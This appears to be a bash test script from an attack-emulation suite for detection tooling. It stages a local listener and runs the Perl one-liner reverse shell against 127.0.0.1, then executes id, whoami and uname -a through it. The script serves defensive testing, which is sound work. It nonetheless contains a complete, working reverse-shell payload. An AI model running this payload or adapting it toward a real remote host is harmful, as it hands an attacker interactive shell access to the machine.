#!/bin/bash
# vigil-emulation: attack
# technique: T1059 Command and Scripting Interpreter
# tactic: execution, command-and-control
# what: the perl one-liner reverse shell: perl connects to a listener on 127.0.0.1, opens
#   STDIN, STDOUT and STDERR on the socket and execs `/bin/sh -i`; the listener runs `id`,
#   `whoami`, `uname -a`.
# report: a reverse shell: sh whose stdin and stdout are one TCP socket to 127.0.0.1:PORT,
#   started by perl.
# expect: reverse shell
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need perl

emul_server shell --commands "id;whoami;uname -a"
listener=$EMUL_BG_PID
perl -e 'use Socket;$i="127.0.0.1";$p='"$EMUL_PORT"';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' || true
wait "$listener"
